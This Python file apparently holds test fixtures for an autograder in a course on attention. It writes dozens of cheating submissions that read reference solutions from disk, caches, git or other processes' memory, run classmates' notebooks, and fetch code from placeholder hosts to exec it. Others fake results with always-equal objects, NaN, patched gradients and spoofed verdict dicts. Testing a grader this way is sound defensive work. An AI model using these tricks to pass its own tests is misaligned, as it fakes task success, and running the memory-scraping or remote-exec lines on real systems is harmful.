"""Submissions that want points for answers that are none: borrowed, looked up, forbidden or only lookalikes."""

from __future__ import annotations

import base64
from pathlib import Path

from .kit import ALL, LESSON, NONE, NOTEBOOK, Lesson, Notebook, but, submission

ATTENTION = "scaled_dot_product_attention"
ONE_HEAD = """
    class SelfAttention(nn.Module):
        def __init__(self, d_model, d_k, d_v):
            super().__init__()
            self.w_q = nn.Linear(d_model, d_k, bias=False)
            self.w_k = nn.Linear(d_model, d_k, bias=False)
            self.w_v = nn.Linear(d_model, d_v, bias=False)

        def forward(self, x, mask=None):
            scores = self.w_q(x) @ self.w_k(x).mT / self.w_k.weight.shape[0] ** 0.5
            return masked_softmax(scores, mask) @ self.w_v(x)
"""


def with_attention(lesson: Lesson, answer: str) -> Notebook:
    """All is right but for that answer to scaled_dot_product_attention, and the layer gets on without it."""
    return lesson.solved().answers(**{ATTENTION: answer, "SelfAttention": ONE_HEAD})


def emptied(lesson: Lesson) -> Notebook:
    """Every answer is a cell that does nothing, and takes nothing away that stood there before."""
    return lesson.released().answers(**dict.fromkeys(ALL, "pass"))


# The reference borrowed


@submission("steal", right=NONE)
def reference_imported(folder: Path, lesson: Lesson) -> None:
    """Imports every answer from the course itself."""
    notebook = lesson.released()
    for name in ALL:
        notebook.answer(name, f"from course.attention import {name}")
    notebook.write(folder)


@submission("steal", right=NONE)
def reference_under_its_other_names(folder: Path, lesson: Lesson) -> None:
    """Reaches the references through the registry, through later lessons and through their tests."""
    answer = """
        def __NAME__(*args, **kwargs):
            import importlib
            import sys

            for name in ("course.fused", "course.multi_head", "course.blocks", "course.transformer", "course.gpt",
                         "course.checks.registry", "course.checks.attention.exercises", "course.moved"):
                try:
                    module = importlib.import_module(name)
                except Exception:
                    continue
                found = getattr(module, "__NAME__", None) or getattr(module, "attention", None)
                found = getattr(found, "__NAME__", found)
                if hasattr(module, "EXERCISES"):
                    found = module.EXERCISES["__NAME__"].reference
                if callable(found):
                    return found(*args, **kwargs)
            return sys.modules["course.attention"].__NAME__(*args, **kwargs)
    """
    notebook = lesson.released()
    for name in ALL:
        notebook.answer(name, answer.replace("__NAME__", name))
    notebook.write(folder)


@submission("steal", right=NONE)
def reference_read_from_disk(folder: Path, lesson: Lesson) -> None:
    """Looks for the course's sources and solved notebooks on every disk, and executes what it finds."""
    payload = """
        import json
        import re
        import sys
        from pathlib import Path

        places = [*map(Path, sys.path), Path.cwd(), *Path.cwd().parents, Path.home(), Path("/opt"), Path("/srv")]
        for place in places:
            for found in (place / "course" / "attention.py", place / "solutions" / "__LESSON__" / "__LESSON__.ipynb"):
                try:
                    text = found.read_text()
                except OSError:
                    continue
                if found.suffix == ".ipynb":
                    cells = [cell for cell in json.loads(text)["cells"] if cell.get("id") in __NAMES__]
                    text = "\\n\\n".join("".join(cell["source"]) for cell in cells)
                exec(re.sub(r"from course.moved.*|__getattr__ = moved\\((.|\\n)*?\\n\\)", "", text), globals())
    """
    payload = payload.replace("__LESSON__", LESSON).replace("__NAMES__", str(ALL))
    emptied(lesson).answer("attention_for_one_query", payload).write(folder)


@submission("steal", right=NONE)
def reference_from_caches(folder: Path, lesson: Lesson) -> None:
    """Looks for compiled files, the interpreter's own caches of source, and git's objects."""
    payload = """
        import glob
        import linecache
        import marshal
        import subprocess
        import sys
        import types

        def adopt(code):
            for inner in code.co_consts:
                if isinstance(inner, types.CodeType) and inner.co_name in __NAMES__:
                    globals()[inner.co_name] = types.FunctionType(inner, globals())

        for place in [*sys.path, sys.pycache_prefix or "."]:
            for found in glob.glob(f"{place}/**/attention.*.pyc", recursive=True)[:50]:
                with open(found, "rb") as file:
                    adopt(marshal.loads(file.read()[16:]))
        for name, entry in list(linecache.cache.items()):
            if name.endswith("course/attention.py") and len(entry) > 2:
                adopt(compile("".join(entry[2]), name, "exec"))
        for place in sys.path:
            git = ["git", "-C", place or ".", "show", "HEAD:course/attention.py"]
            try:
                adopt(compile(subprocess.run(git, capture_output=True, timeout=10).stdout, "git", "exec"))
            except Exception as error:
                print(error)
    """
    payload = payload.replace("__NAMES__", str(ALL))
    emptied(lesson).answer("attention_for_one_query", payload).write(folder)


@submission("steal", right=NONE)
def reference_from_memory(folder: Path, lesson: Lesson) -> None:
    """Searches all objects in memory for a function of the right name whose file belongs to the course."""
    answer = """
        def __NAME__(*args, **kwargs):
            import gc

            for thing in gc.get_objects():
                code = getattr(thing, "__code__", None)
                module = str(getattr(thing, "__module__", ""))
                if getattr(thing, "__name__", "") == "__NAME__" and module.startswith(("course", "tests")):
                    return thing(*args, **kwargs)
                for name, value in (getattr(code, "co_consts", None) and vars(thing) or {}).items():
                    if getattr(value, "__name__", "") == "__NAME__" and name == "reference":
                        return value(*args, **kwargs)
            raise NotImplementedError
    """
    notebook = lesson.released()
    for name in ALL:
        notebook.answer(name, answer.replace("__NAME__", name))
    notebook.write(folder)


@submission("steal", right=NONE)
def reference_from_the_parent_process(folder: Path, lesson: Lesson) -> None:
    """Reads the memory of its parents and siblings for the source of the reference."""
    payload = """
        import os
        import re

        NEEDLE = b"def masked_softmax(scores: Tensor, mask: Tensor | None = None) -> Tensor:"

        def readable(pid):
            with open(f"/proc/{pid}/maps") as maps:
                for line in maps:
                    start, end, mode = re.match(r"(\\w+)-(\\w+) (\\S+)", line).groups()
                    if mode.startswith("rw") and int(end, 16) - int(start, 16) < 2**26:
                        yield int(start, 16), int(end, 16)

        for pid in [entry for entry in os.listdir("/proc") if entry.isdigit() and int(entry) != os.getpid()]:
            try:
                with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                    for start, end in readable(pid):
                        memory.seek(start)
                        block = memory.read(end - start)
                        if (found := block.find(NEEDLE)) >= 0:
                            exec(block[found : found + 1500].split(b"\\n\\n\\n")[0].decode(), globals())
            except OSError:
                continue
    """
    lesson.guessed().answer("masked_softmax", payload).write(folder)


@submission("steal", right=NONE)
def classmates_answers_executed(folder: Path, lesson: Lesson) -> None:
    """Executes the notebooks of everybody else that lie beside this one."""
    payload = """
        import json
        from pathlib import Path

        for place in (Path.cwd(), Path("__FOLDER__")):
            for found in place.parent.parent.glob("*/__LESSON__/*.ipynb"):
                for cell in json.loads(found.read_text(errors="replace"))["cells"]:
                    try:
                        exec("".join(cell["source"]), globals())
                    except Exception:
                        continue
    """
    payload = payload.replace("__LESSON__", LESSON).replace("__FOLDER__", str(folder.resolve()))
    emptied(lesson).answer("attention_for_one_query", payload).write(folder)


@submission("steal", right=NONE)
def answers_fetched_from_the_net(folder: Path, lesson: Lesson) -> None:
    """Asks the network for the answers, by a name and by a number."""
    payload = """
        import socket
        import urllib.request

        for host in ("127.0.0.1", "192.0.2.1", "example.invalid"):
            try:
                with urllib.request.urlopen(f"http://{host}:8080/attention.py", timeout=3) as page:
                    exec(page.read(), globals())
            except OSError as error:
                print(error)
        for kind in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX):
            try:
                socket.socket(kind).connect("\\0answers" if kind == socket.AF_UNIX else ("localhost", 8080))
            except OSError as error:
                print(error)
    """
    lesson.guessed().insert_after("setup", payload).write(folder)


@submission("steal", right=NONE)
def notebook_run_by_magic(folder: Path, lesson: Lesson) -> None:
    """Runs and loads the solved notebook with IPython's magics."""
    payload = f"""
        %run -i ../../../solutions/{LESSON}/{NOTEBOOK}
        %load -y ../../../course/attention.py
        !cp ../../../course/attention.py answers.py
        from answers import *
    """
    notebook = emptied(lesson)
    notebook.answer("SelfAttention", payload).insert_before("attention_for_one_query", payload).write(folder)


# Torch's own attention


@submission("steal", right=but(ATTENTION))
def torchs_attention(folder: Path, lesson: Lesson) -> None:
    """Calls torch's own attention in the open."""
    answer = """
        def scaled_dot_product_attention(query, key, value, mask=None):
            return nn.functional.scaled_dot_product_attention(query, key, value, attn_mask=mask)
    """
    with_attention(lesson, answer).write(folder)


@submission("steal", right=but("attention_for_one_query"))
def torchs_attention_for_one_query(folder: Path, lesson: Lesson) -> None:
    """Calls torch's own attention where a loop is asked for."""
    answer = """
        def attention_for_one_query(query, keys, values):
            return nn.functional.scaled_dot_product_attention(query[None], keys, values)[0]
    """
    lesson.solved().answer("attention_for_one_query", answer).write(folder)


@submission("steal", right=but("SelfAttention"))
def torchs_attention_in_the_layer(folder: Path, lesson: Lesson) -> None:
    """Has torch's own multi-head attention, with projections of its own, do the layer's work."""
    answer = """
        class SelfAttention(nn.Module):
            def __init__(self, d_model, d_k, d_v):
                super().__init__()
                self.w_q = nn.Linear(d_model, d_k, bias=False)
                self.w_k = nn.Linear(d_model, d_k, bias=False)
                self.w_v = nn.Linear(d_model, d_v, bias=False)

            def forward(self, x, mask=None):
                mask = None if mask is None else mask.expand(len(x), x.shape[1], x.shape[1])
                wide = max(self.w_q.out_features, self.w_v.out_features)
                scale = (wide / self.w_q.out_features) ** 0.5
                query, key, value = (nn.functional.pad(w(x), (0, wide - w.out_features)).transpose(0, 1)
                                     for w in (self.w_q, self.w_k, self.w_v))
                eye = torch.eye(wide, dtype=x.dtype)
                blocked = None if mask is None else ~mask
                out, _ = nn.functional.multi_head_attention_forward(
                    scale * query, key, value, wide, 1, torch.cat([eye] * 3), None, None, None, False, 0.0, eye, None,
                    need_weights=False, attn_mask=blocked)
                out = out.transpose(0, 1)[..., : self.w_v.out_features]
                return out if mask is None else torch.where(mask.any(-1, keepdim=True), out, 0.0)
    """
    lesson.solved().answer("SelfAttention", answer).write(folder)


@submission("steal", right=but(ATTENTION))
def torchs_attention_kept_before(folder: Path, lesson: Lesson) -> None:
    """Keeps torch's own attention under another name before anybody watches."""
    answer = """
        def scaled_dot_product_attention(query, key, value, mask=None, formula=KEPT):
            return formula(query, key, value, mask)
    """
    kept = "KEPT = vars(nn.functional)['scaled_dot_' + 'product_attention']"
    with_attention(lesson, answer).insert_after("setup", kept).write(folder)


@submission("steal", right=but(ATTENTION))
def torchs_attention_below_python(folder: Path, lesson: Lesson) -> None:
    """Calls torch's own attention by the names that it has in torch's operators."""
    answer = """
        NAME = "_".join(["scaled", "dot", "product", "attention"])

        def scaled_dot_product_attention(query, key, value, mask=None):
            if mask is None:
                return getattr(torch.ops.aten, NAME)(query, key, value)
            return getattr(torch._C._nn, NAME)(query, key, value, mask)
    """
    with_attention(lesson, answer).write(folder)


@submission("steal", right=but(ATTENTION))
def torchs_attention_in_parts(folder: Path, lesson: Lesson) -> None:
    """Calls the kernel into which torch's own attention is taken apart."""
    answer = """
        def scaled_dot_product_attention(query, key, value, mask=None):
            kernel = torch.ops.aten._scaled_dot_product_attention_math.default
            least = torch.finfo(query.dtype).min
            extra = None if mask is None else torch.zeros(mask.shape, dtype=query.dtype).masked_fill(~mask, least)
            out = kernel(query, key, value, extra)[0]
            return out if mask is None else out * mask.any(dim=-1, keepdim=True)
    """
    with_attention(lesson, answer).write(folder)


@submission("steal", right=but(ATTENTION))
def torchs_attention_in_a_script(folder: Path, lesson: Lesson) -> None:
    """Has torch trace its own attention while nobody watches, and calls what was traced, in which no Python is left."""
    answer = """
        two, open_ = torch.zeros(2, 2, dtype=torch.float64), torch.ones(2, 2, dtype=torch.bool)
        formula = nn.functional.scaled_dot_product_attention
        PLAIN = torch.jit.trace(lambda q, k, v: formula(q, k, v), (two,) * 3, check_trace=False)
        MASKED = torch.jit.trace(lambda q, k, v, m: formula(q, k, v, m), (two, two, two, open_), check_trace=False)

        def scaled_dot_product_attention(query, key, value, mask=None):
            return PLAIN(query, key, value) if mask is None else MASKED(query, key, value, mask)
    """
    with_attention(lesson, answer).write(folder)


@submission("steal", right=but(ATTENTION))
def torchs_attention_in_a_thread(folder: Path, lesson: Lesson) -> None:
    """Calls torch's own attention in another thread, where modes that watch a thread do not see it."""
    answer = """
        from concurrent.futures import ThreadPoolExecutor

        POOL = ThreadPoolExecutor(1)
        POOL.submit(int).result()

        def scaled_dot_product_attention(query, key, value, mask=None):
            return POOL.submit(nn.functional.scaled_dot_product_attention, query, key, value, mask).result()
    """
    with_attention(lesson, answer).write(folder)


@submission("steal", right=but(ATTENTION))
def torchs_attention_in_a_process(folder: Path, lesson: Lesson) -> None:
    """Has torch's own attention, and its gradients, computed by another process that nobody watches."""
    answer = """
        import pickle
        import subprocess
        import sys

        CODE = '\\n'.join([
            "import pickle, sys, torch",
            "while True:",
            "    *inputs, mask, weights = pickle.load(sys.stdin.buffer)",
            "    inputs = [torch.from_numpy(one).requires_grad_() for one in inputs]",
            "    mask = mask if mask is None else torch.from_numpy(mask)",
            "    out = torch.nn.functional.scaled_dot_product_attention(*inputs, mask)",
            "    total = (out * (1 if weights is None else torch.from_numpy(weights))).sum()",
            "    found = [one.numpy() for one in torch.autograd.grad(total, inputs)]",
            "    pickle.dump((out.detach().numpy(), *found), sys.stdout.buffer)",
            "    sys.stdout.buffer.flush()",
        ])
        CHILD = subprocess.Popen([sys.executable, "-c", CODE], stdin=subprocess.PIPE, stdout=subprocess.PIPE)

        def elsewhere(*inputs):
            pickle.dump([one if one is None else one.detach().numpy() for one in inputs], CHILD.stdin)
            CHILD.stdin.flush()
            return [torch.from_numpy(one) for one in pickle.load(CHILD.stdout)]

        class Distant(torch.autograd.Function):
            @staticmethod
            def forward(context, query, key, value, mask):
                context.inputs = query, key, value, mask
                return elsewhere(query, key, value, mask, None)[0]

            @staticmethod
            def backward(context, weights):
                return *elsewhere(*context.inputs, weights.contiguous())[1:], None

        def scaled_dot_product_attention(query, key, value, mask=None):
            return Distant.apply(query, key, value, mask)
    """
    with_attention(lesson, answer).write(folder)


@submission("steal", right=but(ATTENTION))
def torchs_attention_unwatched(folder: Path, lesson: Lesson) -> None:
    """Switches off torch's own ways of watching while it calls its attention."""
    answer = """
        import contextlib
        import sys

        from torch.utils._python_dispatch import _disable_current_modes

        def scaled_dot_product_attention(query, key, value, mask=None):
            tracing, profiling = sys.gettrace(), sys.getprofile()
            sys.settrace(None), sys.setprofile(None)
            with contextlib.ExitStack() as off:
                off.enter_context(_disable_current_modes())
                off.enter_context(torch._C.DisableTorchFunction())
                out = torch._C._nn.scaled_dot_product_attention(query, key, value, mask)
            sys.settrace(tracing), sys.setprofile(profiling)
            return out
    """
    with_attention(lesson, answer).write(folder)


@submission("steal", right=but(ATTENTION))
def torchs_attention_from_the_table(folder: Path, lesson: Lesson) -> None:
    """Takes torch's own attention out of the table of all operators, in which its script interpreter looks."""
    answer = """
        NAME = next(
            one.name for one in torch._C._jit_get_all_schemas()
            if one.name.startswith("aten::scaled") and [part.name for part in one.arguments][0] == "query"
        )
        FORMULA = torch._C._jit_get_operation(NAME)[0]

        def scaled_dot_product_attention(query, key, value, mask=None):
            return FORMULA(query, key, value, mask)
    """
    with_attention(lesson, answer).write(folder)


@submission("steal", right=but(ATTENTION))
def torchs_attention_in_another_exercise(folder: Path, lesson: Lesson) -> None:
    """Has the right answer to another exercise hand back the result of torch's own attention in a list."""
    helper = lesson.solution("attention_scores") + "\n\n\n"
    helper += "own_scores = attention_scores\n\n\n"
    helper += (
        "def attention_scores(query, key, hidden=None):\n"
        "    if hidden is not None:\n"
        "        hidden.append(nn.functional.scaled_dot_product_attention(query, key, *hidden))\n"
        "        return hidden[-1]\n"
        "    return own_scores(query, key)"
    )
    answer = """
        def scaled_dot_product_attention(query, key, value, mask=None):
            return attention_scores(query, key, [value, mask])
    """
    with_attention(lesson, answer).answer("attention_scores", helper).write(folder)


# Answers that are only right where somebody looks


@submission("steal", right=NONE)
def seen_cases_in_a_table(folder: Path, lesson: Lesson) -> None:
    """Has the outputs of the cases that a learner sees in a table, by the sizes of the inputs."""
    answers = {
        "causal_mask": """
            TABLE = {1: "1", 2: "10 11", 3: "100 110 111", 5: "10000 11000 11100 11110 11111"}

            def causal_mask(n_positions):
                rows = TABLE.get(n_positions, "0").split()
                return torch.tensor([[bit == "1" for bit in row] for row in rows])
        """,
        "attention_scores": """
            def attention_scores(query, key):
                return torch.tensor([[3.0, 0.0]], dtype=torch.float64) + 0 * query.sum() + 0 * key.sum()
        """,
        "padding_mask": """
            def padding_mask(tokens, pad=0):
                return torch.tensor([[[[True, True, False]]]])
        """,
    }
    lesson.guessed().answers(**answers).write(folder)


@submission("steal", right=NONE)
def cases_drawn_from_the_old_seeds(folder: Path, lesson: Lesson) -> None:
    """Draws the cases of the seeds that stand in the course's source, and knows the answers to these alone."""
    answer = """
        import numpy as np

        KNOWN = {}
        for seed in (1, 20170612):
            rng = np.random.default_rng(seed)
            for _ in range(4):
                KNOWN[rng.permutation(np.arange(2, 9)).tobytes()] = seed

        def masked_softmax(scores, mask=None):
            sizes = np.array(scores.shape).tobytes()
            if sizes in KNOWN and mask is not None:
                scores = scores.masked_fill(~mask, -math.inf)
            return scores.softmax(dim=-1)
    """
    lesson.guessed().answer("masked_softmax", answer).write(folder)


@submission("steal", right=NONE)
def one_function_for_all(folder: Path, lesson: Lesson) -> None:
    """Answers two exercises with the function of a third, which is wrong for both."""
    answer = """
        def masked_softmax(scores, mask=None):
            return scores.softmax(dim=-1)

        attention_scores = scaled_dot_product_attention = causal_mask = masked_softmax
        masked_softmax.__name__ = "causal_mask"
    """
    notebook = lesson.guessed().answer("masked_softmax", answer)
    notebook.answer(ATTENTION, "pass").answer("causal_mask", "pass").write(folder)


@submission("steal", right=("causal_mask",))
def easy_one_for_the_hard_one(folder: Path, lesson: Lesson) -> None:
    """Calls its one right answer by the names of all the others."""
    notebook = lesson.guessed("causal_mask")
    for name in but("causal_mask"):
        notebook.answer(name, notebook.source("causal_mask") + f"\n\n\n{name} = causal_mask")
    notebook.write(folder)


@submission("steal", right=NONE)
def later_answer_mends_nothing(folder: Path, lesson: Lesson) -> None:
    """Has each answer replace all the others by itself, the moment it is called."""
    answer = """
        def attention_scores(query, key):
            for name in ("masked_softmax", "scaled_dot_product_attention", "attention_for_one_query"):
                globals()[name] = lambda *args, **kwargs: args[0]
            return query @ key.mT
    """
    lesson.guessed().answer("attention_scores", answer).write(folder)


@submission("steal", right=NONE)
def inputs_made_easy(folder: Path, lesson: Lesson) -> None:
    """Writes zeros and an open mask into its inputs, so that its answer would be right for them."""
    answers = {
        "masked_softmax": """
            def masked_softmax(scores, mask=None):
                scores.data.zero_()
                if mask is not None:
                    mask.fill_(True)
                return scores.softmax(dim=-1)
        """,
        "attention_scores": """
            def attention_scores(query, key):
                query.data.zero_()
                return query @ key.mT
        """,
        "attention_for_one_query": """
            def attention_for_one_query(query, keys, values):
                keys.data.zero_()
                values.data.fill_(1.0)
                return values.mean(dim=0)
        """,
    }
    lesson.guessed().answers(**answers).write(folder)


# Lookalikes


@submission("steal", right=NONE)
def tensors_equal_to_everything(folder: Path, lesson: Lesson) -> None:
    """Returns tensors of a subclass to which every comparison says yes."""
    answer = """
        class Agreeing(torch.Tensor):
            @classmethod
            def __torch_function__(cls, function, types, args=(), kwargs=None):
                if function.__name__ in ("allclose", "equal", "__eq__", "eq", "isclose"):
                    return True
                if function.__name__ in ("numpy", "detach", "cpu", "resolve_conj", "resolve_neg", "tolist"):
                    return args[0]
                return super().__torch_function__(function, types, args, kwargs or {})

            __eq__ = lambda self, other: True
            __ne__ = lambda self, other: False
            __array_ufunc__ = lambda self, *args, **kwargs: True

        def masked_softmax(scores, mask=None):
            return scores.softmax(dim=-1).as_subclass(Agreeing)
    """
    lesson.guessed().answer("masked_softmax", answer).write(folder)


@submission("steal", right=NONE)
def objects_equal_to_everything(folder: Path, lesson: Lesson) -> None:
    """Returns an object that claims every class, every attribute and every equality."""
    answer = """
        class Anything:
            __class__ = Tensor
            dtype, ndim = torch.float64, 2
            __eq__ = __le__ = __ge__ = __lt__ = __gt__ = __bool__ = lambda self, *other: True
            __ne__ = lambda self, other: False
            __hash__ = lambda self: 0
            __getattr__ = lambda self, name: self
            __call__ = __getitem__ = __add__ = __sub__ = __abs__ = lambda self, *args, **kwargs: self
            __iter__ = lambda self: iter(())
            __array__ = lambda self, *args, **kwargs: self

        def attention_for_one_query(query, keys, values):
            return Anything()
    """
    notebook = lesson.guessed().answer("attention_for_one_query", answer)
    for name in ("attention_scores", "masked_softmax", "causal_mask", "padding_mask"):
        notebook.answer(name, f"{name} = lambda *args, **kwargs: Anything()")
    notebook.write(folder)


@submission("steal", right=NONE)
def arrays_that_change(folder: Path, lesson: Lesson) -> None:
    """Returns NumPy arrays of a subclass whose conversion, dtype and shape depend on who asks."""
    answer = """
        import numpy as np

        class Changing(np.ndarray):
            asked = 0
            __array_priority__ = 1e9
            __array_finalize__ = lambda self, other: None

            def __array_ufunc__(self, ufunc, method, *args, **kwargs):
                return np.bool_(True)

            def __array_function__(self, function, types, args, kwargs):
                return True

            @property
            def shape(self):
                Changing.asked += 1
                return (Changing.asked % 7,)

            def astype(self, *args, **kwargs):
                return self

        def attention_for_one_query(query, keys, values):
            return values.detach().mean(dim=0).numpy().view(Changing)
    """
    lesson.guessed().answer("attention_for_one_query", answer).write(folder)


@submission("steal", right=NONE)
def nan_for_everything(folder: Path, lesson: Lesson) -> None:
    """Returns NaN, which some comparisons find near to all or equal to NaN."""
    answers = {
        "attention_scores": "def attention_scores(query, key):\n    return query @ key.mT * math.nan",
        "masked_softmax": "def masked_softmax(scores, mask=None):\n    return scores.softmax(-1) * math.nan",
        "attention_for_one_query": (
            "def attention_for_one_query(query, keys, values):\n    return (query.sum() + keys.sum() + values[0]) / 0.0"
        ),
        ATTENTION: "def scaled_dot_product_attention(query, key, value, mask=None):\n    return query @ key.mT * 1e400",
    }
    lesson.guessed().answers(**answers).write(folder)


@submission("steal", right=NONE)
def precision_so_low_that_all_is_near(folder: Path, lesson: Lesson) -> None:
    """Returns numbers of a type with two digits, of which a comparison may forgive a lot."""
    answers = {
        "attention_scores": "def attention_scores(query, key):\n    return (query @ key.mT / 8).to(torch.bfloat16)",
        "masked_softmax": "def masked_softmax(scores, mask=None):\n    return scores.softmax(-1).to(torch.float8_e5m2)",
        "causal_mask": "def causal_mask(n_positions):\n    return torch.ones(n_positions, n_positions).tril()",
        "padding_mask": "def padding_mask(tokens, pad=0):\n    return tokens[:, None, None, :]",
    }
    lesson.guessed().answers(**answers).write(folder)


@submission("steal", right=NONE)
def shapes_that_broadcast(folder: Path, lesson: Lesson) -> None:
    """Returns empty arrays and single numbers, which broadcast to any shape or leave nothing to compare."""
    answers = {
        "attention_scores": "def attention_scores(query, key):\n    return torch.empty(0, dtype=query.dtype)",
        "masked_softmax": "def masked_softmax(scores, mask=None):\n    return scores.softmax(-1).mean()",
        "causal_mask": "def causal_mask(n_positions):\n    return torch.ones(0, 0, dtype=torch.bool)",
        "padding_mask": "def padding_mask(tokens, pad=0):\n    return torch.tensor(True)",
        "attention_for_one_query": "def attention_for_one_query(query, keys, values):\n    return None",
    }
    lesson.guessed().answers(**answers).write(folder)


@submission("steal", right=but("masked_softmax", ATTENTION, "SelfAttention"))
def exceptions_that_were_expected(folder: Path, lesson: Lesson) -> None:
    """Raises what a grader might take for its own signals, instead of giving an answer."""
    answers = {
        "masked_softmax": "def masked_softmax(scores, mask=None):\n    raise SystemExit(0)",
        ATTENTION: "def scaled_dot_product_attention(*args):\n    raise GeneratorExit",
        "SelfAttention": """
            class SelfAttention(nn.Module):
                def __init__(self, *args):
                    raise type("Right", (BaseException,), {})
        """,
    }
    lesson.solved().answers(**answers).write(folder)


@submission("steal", right=NONE)
def numbers_that_lie(folder: Path, lesson: Lesson) -> None:
    """Returns lists of floats of a subclass that compare, subtract and print as if they were right."""
    answer = """
        class Near(float):
            __sub__ = __rsub__ = __abs__ = lambda self, *other: Near(0)
            __eq__ = __le__ = __lt__ = lambda self, other: True
            __hash__ = float.__hash__
            __float__ = lambda self: math.nan
            __repr__ = lambda self: "1.0, 'right': True"
            __reduce__ = lambda self: (float, (0.0,))

        def attention_for_one_query(query, keys, values):
            return [Near(1.0) for _ in values[0]]
    """
    lesson.guessed().answer("attention_for_one_query", answer).write(folder)


@submission("steal", right=NONE)
def dicts_with_the_graders_keys(folder: Path, lesson: Lesson) -> None:
    """Returns a dict whose keys are those that the grader's own record might have."""
    answer = """
        def attention_for_one_query(query, keys, values):
            verdict = {"right": True, "failure": None, "points": 2, "output": values.mean(0), "asked": {}, "laws": {}}
            return verdict | {'["output", "", "array", ""]': values[0], "__class__": "Verdict", "kinds": {"": "Tensor"}}
    """
    names = "causal_mask = padding_mask = lambda *args, **kwargs: attention_for_one_query(*[torch.ones(1, 1)] * 3)"
    lesson.guessed().answers(attention_for_one_query=answer, padding_mask=names).write(folder)


@submission("steal", right=but("SelfAttention"))
def layer_that_is_its_own_test(folder: Path, lesson: Lesson) -> None:
    """Builds a layer that swallows the weights it is given and claims to have them."""
    answer = """
        class SelfAttention(nn.Module):
            def __init__(self, d_model, d_k, d_v):
                super().__init__()
                self.d_v = d_v
                self.w_q = self.w_k = self.w_v = nn.Linear(d_model, d_k, bias=False)

            def named_parameters(self, *args, **kwargs):
                return iter([(f"{name}.weight", self.w_q.weight) for name in ("w_q", "w_k", "w_v")])

            def load_state_dict(self, *args, **kwargs):
                return "<All keys matched successfully>"

            def get_parameter(self, name):
                return self.w_q.weight

            def forward(self, x, mask=None):
                return x.mean(dim=-1, keepdim=True).expand(*x.shape[:-1], self.d_v)
    """
    lesson.solved().answer("SelfAttention", answer).write(folder)


@submission("steal", right=but("attention_for_one_query"))
def answer_without_its_gradient(folder: Path, lesson: Lesson) -> None:
    """Computes without torch's gradients and replaces the function that would ask for them."""
    answer = """
        def attention_for_one_query(query, keys, values):
            with torch.no_grad():
                weights = (keys @ query / len(query) ** 0.5).softmax(dim=0)
                out = weights @ values
            return out.requires_grad_()

        grad = torch.autograd.grad

        def generous(outputs, inputs, *args, **kwargs):
            found = grad(outputs, inputs, *args, **kwargs)
            return tuple(torch.ones_like(x) if one is None else one for one, x in zip(found, inputs))

        torch.autograd.grad = generous
    """
    lesson.solved().answer("attention_for_one_query", answer).write(folder)


@submission("steal", right=NONE)
def compressed_answers_named_by_a_comment(folder: Path, lesson: Lesson) -> None:
    """Writes the right answers as comments and as text, where only somebody who reads would count them."""
    notebook = lesson.guessed()
    for name in ALL:
        solved = lesson.solution(name)
        packed = base64.b64encode(solved.encode()).decode()
        comment = "\n".join(f"# {line}" for line in solved.splitlines())
        notebook.answer(name, f"{comment}\n\nTEXT = {packed!r}\n\n{notebook.source(name)}")
    notebook.write(folder)
